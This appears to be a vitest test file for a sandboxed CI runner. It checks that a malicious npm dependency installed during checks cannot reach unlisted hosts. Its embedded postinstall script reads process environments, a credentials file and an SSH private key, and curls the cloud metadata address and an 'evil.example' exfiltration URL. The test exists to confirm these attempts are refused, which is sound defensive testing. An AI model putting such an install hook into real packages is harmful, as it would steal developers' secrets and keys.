/** What a malicious dependency reaches when the checks install it: nothing but the registry that the owner named (T42). Real npm, a real registry, the real wall. */
import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { testRemote, type TestRemote } from '../git/remote.fixture.ts'
import { detectBubblewrap } from '../walls/detect.ts'
import { doJob } from './do-job.ts'
import { checksJob } from './job.fixture.ts'
import type { Setup } from './port.ts'
import { testPort, type TestPort } from './port.fixture.ts'

const sandbox = await detectBubblewrap()
const none = 'found' in sandbox ? null : sandbox.why

let root = ''
let remote: TestRemote
let registry: Server
let other: Server
let reached: string[] = []
let asked: string[] = []
const portOf = (server: Server) => (server.address() as AddressInfo).port
const listen = (server: Server, host: string) => new Promise<void>((ready) => server.listen(0, host, ready))
const end = (server: Server) => new Promise((closed) => (server.closeAllConnections(), server.close(closed)))

/** Tries what it can; what it finds out goes wherever it gets to. */
const postinstall = (at: number, home: string) => `
const { execSync } = require('child_process'), fs = require('fs'), http = require('http')
const attempt = (name, work) => { try { console.log('GOT ' + name + ' ' + String(work()).slice(0, 200)) } catch { console.log('NOT ' + name) } }
for (const pid of fs.readdirSync('/proc').filter((x) => /^\\d+$/.test(x))) try { const text = fs.readFileSync('/proc/' + pid + '/environ', 'latin1'); if (text.includes('canary')) console.log('GOT environ') } catch {}
attempt('credentials', () => fs.readFileSync(${JSON.stringify(home)} + '/credentials.json'))
attempt('ssh', () => fs.readFileSync(require('os').userInfo().homedir + '/.ssh/id_ed25519'))
attempt('other', () => execSync('curl -sS --noproxy "*" --max-time 3 http://127.0.0.1:${at}/direct'))
attempt('proxied', () => execSync('curl -sSf --max-time 3 http://127.0.0.3:${at}/proxied'))
attempt('metadata', () => execSync('curl -sSf --max-time 3 http://169.254.169.254/latest'))
attempt('exfiltration', () => execSync('curl -sSf --max-time 3 https://evil.example/?x=1'))
`

beforeEach(async () => {
  reached = []
  asked = []
  other = createServer((request, answer) => (reached.push(request.url ?? ''), answer.end('reached')))
  await listen(other, '0.0.0.0')
  let tarball = Buffer.alloc(0)
  let manifest: unknown = {}
  registry = createServer((request, answer) => {
    asked.push(request.url ?? '')
    if (request.url?.endsWith('.tgz')) return void answer.end(tarball)
    if (request.url?.startsWith('/evil'))
      return void answer.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(manifest))
    answer.writeHead(404).end('{}')
  })
  await listen(registry, '127.0.0.2')
  const address = `http://127.0.0.2:${portOf(registry)}`
  const lock = (integrity: string) =>
    JSON.stringify({
      name: 'shop',
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name: 'shop', version: '1.0.0', dependencies: { evil: '1.0.0' } },
        'node_modules/evil': {
          version: '1.0.0',
          resolved: `${address}/evil/-/evil-1.0.0.tgz`,
          integrity,
          hasInstallScript: true,
        },
      },
    })
  remote = await testRemote({ 'README.md': 'x' })
  root = remote.root
  await mkdir(path.join(root, 'pack', 'package'), { recursive: true })
  await writeFile(
    path.join(root, 'pack', 'package', 'package.json'),
    JSON.stringify({ name: 'evil', version: '1.0.0', scripts: { postinstall: 'node install.js' } }),
  )
  await writeFile(path.join(root, 'pack', 'package', 'install.js'), postinstall(portOf(other), path.join(root, 'home')))
  execFileSync('tar', ['-czf', path.join(root, 'evil.tgz'), '-C', path.join(root, 'pack'), 'package'])
  tarball = await readFile(path.join(root, 'evil.tgz'))
  const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`
  manifest = {
    name: 'evil',
    'dist-tags': { latest: '1.0.0' },
    versions: {
      '1.0.0': { name: 'evil', version: '1.0.0', dist: { integrity, tarball: `${address}/evil/-/evil-1.0.0.tgz` } },
    },
  }
  await remote.commit({
    'package.json': JSON.stringify({
      name: 'shop',
      version: '1.0.0',
      scripts: { test: 'node -e 0' },
      dependencies: { evil: '1.0.0' },
    }),
    'package-lock.json': lock(integrity),
    '.npmrc': `registry=${address}/\nfund=false\naudit=false\nforeground-scripts=true\n`,
  })
})
afterEach(async () => {
  await Promise.all([end(registry), end(other)])
  await rm(root, { recursive: true, force: true })
})

/** `hosts`: what the workflow names. */
const checked = async (checks: string[], hosts?: string[]): Promise<TestPort> => {
  const setup: Setup = {
    home: path.join(root, 'home'),
    passEnvironment: [],
    commands: {},
    walls: { level: 'best', read: [] },
    network: { agents: [], checks, near: checks },
  }
  await mkdir(setup.home, { recursive: true })
  await writeFile(path.join(setup.home, 'credentials.json'), '{}', { mode: 0o600 })
  const port = testPort({ ...checksJob(remote), ...(hosts && { hosts }) })
  process.env['VPD_TEST_SECRET'] = 'environment-canary'
  await doJob(port, setup)
  delete process.env['VPD_TEST_SECRET']
  return port
}

describe.skipIf(none !== null)(`checks behind the sandbox${none === null ? '' : ` (skipped: ${none})`}`, () => {
  it('install a malicious dependency that reaches nothing (T42)', async () => {
    const port = await checked([`127.0.0.2:${portOf(registry)}`])
    const log = port.logText()
    expect(log).toContain('NOT exfiltration')
    expect(log.match(/^GOT .*/gm)).toBe(null)
    expect(reached).toEqual([])
    expect(asked.some((url) => url.endsWith('.tgz'))).toBe(true)
    expect(port.of('started')[0]?.isolation).toMatchObject({ level: 'sandbox', network: 'listed' })
    expect(port.reports.at(-1)).toMatchObject({ type: 'finished', result: { kind: 'checks', passed: true } })
    const words = port.of('refused').map((one) => [one.code, String(one.about['host'])])
    expect(words).toEqual(
      expect.arrayContaining([
        ['egress_refused', '127.0.0.3'],
        ['egress_refused', '169.254.169.254'],
        ['egress_refused', 'evil.example'],
      ]),
    )
  })

  it('reach no host that their workflow does not name, though the policy allows it, and the log says so', async () => {
    const [mine, theirs] = [`127.0.0.2:${portOf(registry)}`, `127.0.0.3:${portOf(other)}`]
    const port = await checked([mine, theirs], [mine])
    expect(asked.some((url) => url.endsWith('.tgz'))).toBe(true)
    expect(reached).toEqual([])
    expect(port.logText()).toMatch(/\[wall\] 127\.0\.0\.3:\d+ is refused: .*; network\.checks of the workflow names/)
    expect(port.of('refused').map((one) => one.about['host'])).toContain('127.0.0.3')
    const none = await checked([mine, theirs], [])
    expect(none.of('started')[0]?.isolation).toMatchObject({ level: 'sandbox', network: 'none' })
  })

  it('reach no registry that the owner did not name, and the log says which key of the policy would', async () => {
    const port = await checked([])
    expect(asked).toEqual([])
    expect(port.of('started')[0]?.isolation).toMatchObject({ level: 'sandbox', network: 'none' })
    expect(port.reports.at(-1)).toMatchObject({ type: 'finished', result: { kind: 'checks', passed: false } })
    expect(port.logText()).toMatch(
      /\[wall\] 127\.0\.0\.2:\d+ is refused: .*; network\.checks in the runner's policy\.yaml/,
    )
    expect(port.of('refused')[0]).toMatchObject({ code: 'egress_refused', about: { host: '127.0.0.2' } })
  })
})
